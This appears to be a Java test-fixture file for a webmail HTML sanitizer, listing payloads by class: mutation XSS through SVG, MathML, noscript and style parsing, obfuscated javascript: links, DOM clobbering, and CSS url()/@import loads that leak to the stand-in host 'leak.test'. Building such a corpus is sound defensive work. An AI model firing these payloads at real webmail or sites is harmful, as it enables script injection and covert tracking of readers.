package org.bocau.markup;

import java.util.stream.Stream;

/**
 * HTML bodies that attacked other webmails, by the class they stand for. The host {@code leak.test}
 * is replaced by a listening one where they are opened in a browser. Scripts in them would call
 * {@code alert}; loads would reach the host.
 */
public final class HtmlAttacks {
    /**
     * @param id the class, {@code T1}
     */
    public record Attack(String id, String html) {}

    private HtmlAttacks() {}

    public static Stream<Attack> all() {
        return Stream.concat(markup(), styles());
    }

    private static Attack of(String id, String html) {
        return new Attack(id, html);
    }

    private static Stream<Attack> markup() {
        return Stream.of(
                of(
                        "T1",
                        "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PGEgeGxpbms6aHJlZj0iamF2YXNjcmlwdDphbGVydCgxKSI+#x\"/></svg>"),
                of("T1b", "<svg><use href=\"data:image/s\nvg+xml;base64,PHN2Zz4=#x\"/></svg>"),
                of(
                        "T2",
                        "<svg><a><animate attributeName=\"href \" values=\"javascript:alert(1)\"/><text>x</text></a></svg>"),
                of(
                        "T2b",
                        "<svg><a xlink:href=\"javascript:alert(1)\"><set attributeName=xlink:href to=\"javascript:alert(1)\"/></a></svg>"),
                of(
                        "T3",
                        "<svg><rect><animate attributeName=\"style\" values=\"filter:url(//leak.test/3)\"/></rect></svg>"),
                of(
                        "T4",
                        "<svg><rect><animate attributeName=\"mask\" values=\"none;url(//leak.test/4)\"/></rect></svg>"),
                of(
                        "T5",
                        "<svg><filter id=f><feImage href=\"//leak.test/5\" xlink:href=\"//leak.test/5\"/></filter><rect filter=\"url(#f)\"/></svg>"),
                of("T6", "<svg><rect fill=\"url(http://leak.test/6\"/></svg>"),
                of(
                        "T7",
                        "<head xmlns=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\"></head><svg xmlns=\"&quot; onload=alert(1)\"></svg>"),
                of(
                        "T8",
                        "<math href=\"javascript:alert(1)\"><mstyle href=\"javascript:alert(1)\"><ms>x</ms></mstyle><maction actiontype=statusline xlink:href=\"javascript:alert(1)\">y</maction></math>"),
                of(
                        "T9",
                        "<svg><style><img src=x onerror=alert(1)></style></svg><style type=\"text/css\"><img src=x onerror=alert(1)></style>"),
                of(
                        "T10",
                        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
                of(
                        "T10b",
                        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
                of(
                        "T10c",
                        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp><plaintext><script>alert(1)</script>"),
                of(
                        "T10d",
                        "<textarea><p style=\"x:</textarea><img src=x onerror=alert(1)>\"></textarea>"),
                of(
                        "T10e",
                        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
                of(
                        "T10f",
                        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">"),
                of(
                        "T11",
                        "<![CDATA[<script>alert(1)</script>]]><?xml version=\"1.0\"?><!--[if gte mso 9]><script>alert(1)</script><![endif]--><!-- <p>"),
                of(
                        "T11b",
                        "<!--><img src=x onerror=alert(1)>--><!--- <img src=x onerror=alert(1)> --!><img src=x onerror=alert(1)>"),
                of(
                        "T12",
                        "<body title=\"bgcolor=foo\" name=\"bar onload=alert(1)\" fill='asd:url(#asd)\" src=\"x\" onerror=\"alert(1)'>x</body>"),
                of(
                        "T19",
                        "<body background=\"data:image/png,x);background:url(//leak.test/19\"><table background=\"//leak.test/19\"><td background=http://leak.test/19>"),
                of(
                        "T20",
                        "<img srcset=\"//leak.test/20 1x\" src=\"//leak.test/20\"><picture><source srcset=//leak.test/20><img src=//leak.test/20></picture>"),
                of(
                        "T20b",
                        "<video src=//leak.test/20 poster=//leak.test/20></video><audio src=//leak.test/20></audio><input type=image src=//leak.test/20>"),
                of(
                        "T20c",
                        "<link rel=preload as=image href=//leak.test/20><link rel=stylesheet href=//leak.test/20><link rel=dns-prefetch href=//leak.test><object data=//leak.test/20></object><embed src=//leak.test/20><iframe src=//leak.test/20></iframe><bgsound src=//leak.test/20><frameset><frame src=//leak.test/20></frameset>"),
                of(
                        "T20d",
                        "<meta http-equiv=refresh content=\"0;url=http://leak.test/20\"><base href=http://leak.test/><img src=20>"),
                of(
                        "T23",
                        "<a href=\"j&#x61vascript:alert(1)\">a</a><a href=\"&#x6a avascript:alert(1)\">b</a><a href=\" \njava\tscript:alert(1)\">c</a><a href=vbscript:x>d</a><a href=\"data:text/html,<script>alert(1)</script>\">e</a>"),
                of(
                        "T23b",
                        "<base href=\"javascript:/a/-alert(1)//\"><a href=x>f</a><area href=javascript:alert(1)><form action=javascript:alert(1)><button formaction=javascript:alert(1)>g</button></form>"),
                of(
                        "T23c",
                        "<a href=\"\u0001javascript:alert(1)\" target=_blank>h</a><a href=\"JaVaScRiPt&colon;alert(1)\">i</a><a href=\"data:application/xhtml+xml,x\">j</a>"),
                of(
                        "T24",
                        "<a id=csrf name=csrf href=x>1</a><form id=__proto__ name=form></form><img name=getElementById><div hx-get=/mail hx-trigger=load data-hx-get=/x hx-on:click=alert(1) th:text=x x-data=y data-controller=z>k</div>"),
                of(
                        "T24b",
                        "<div is=x-y slot=a part=b popover autofocus tabindex=1 contenteditable accesskey=x itemref=y onbeforetoggle=alert(1)>l</div>"),
                of(
                        "T31",
                        "<img src=\"cid:page@mail\"><img src=\"cid:../../admin\"><img src=\"data:image/svg+xml;base64,PHN2Zz4=\"><img src=\"blob:http://leak.test/1\"><img src=\"/mail/inbox/1/part/1\">"));
    }

    private static Stream<Attack> styles() {
        return Stream.of(
                of(
                        "T13",
                        "<p style=\"aaa:'&quot;/onerror=alert(1)//'\">x</p><img style=aaa:'\"/onerror=alert(1)//' src=x>"),
                of("T14", "<style>a{content:'</style><img src=x onerror=alert(1)>'}</style>"),
                of(
                        "T14b",
                        "<style>a{content:\"\\003C/style>\\003Cimg src=x onerror=alert(1)>\"} /* b{content:\"*/*{color:red;background:url(//leak.test/14)}</style>"),
                of("T14c", "<style>//* x */*{background:url(//leak.test/14)}</style>"),
                of(
                        "T15",
                        "<p style='content:\"\\0026quot;; background:url(//leak.test/15)\"'>x</p>"),
                of(
                        "T16",
                        "<style>@import 'http://leak.test/16'; @\\69mport url(//leak.test/16); @\\5C 69mport '//leak.test/16'; @font-face{font-family:x;src:url(//leak.test/16)} @namespace url(//leak.test/16);</style>"),
                of(
                        "T16b",
                        "<style>@media all{@import '//leak.test/16'} @supports (color:red){a{background:url(//leak.test/16)}} @layer x{b{background:url(//leak.test)}}</style>"),
                of(
                        "T17",
                        "<p style=\"backgr\\ound-image:\\ur\\l('//leak.test/17')\">x</p><p style=\"background:url(//data:image&leak)\">y</p><p style=\"background-image:URL( 'http://xn--leak.test/17' )\">z</p>"),
                of(
                        "T18",
                        "<p style=\"background:var(--x, url(//leak.test/18))\">x</p><p style=\"background:image('//leak.test/18')\">y</p><p style=\"background:cross-fade(url(//leak.test/18),red)\">z</p><p style=\"background:image-set('//leak.test/18' 1x)\">w</p>"),
                of(
                        "T18b",
                        "<p style=\"--x:url(//leak.test/18);background:var(--x)\">x</p><p style=\"background:src('//leak.test/18');cursor:url(//leak.test/18),auto\">y</p>"),
                of(
                        "T22",
                        "<div style=\"position:fixed !important;inset:0;z-index:9999;opacity:.01\">x</div><div style=\"position:/**/fixed\">y</div><div style=\"position\\\n:fixed\">z</div><style>div{position:sticky;top:0} a{color:red;{position:fixed}</style>"),
                of(
                        "TX",
                        "<p style=\"width:expression(alert(1));behavior:url(#x);-moz-binding:url(//leak.test/x)\">x</p><p style=\"color:red;content:attr(href url)\">y</p>"),
                of(
                        "TY",
                        "<style>input[value^=a]{background:url(//leak.test/y)} a:has(b){color:red} *{background:url(//leak.test/y} </style>"));
    }
}
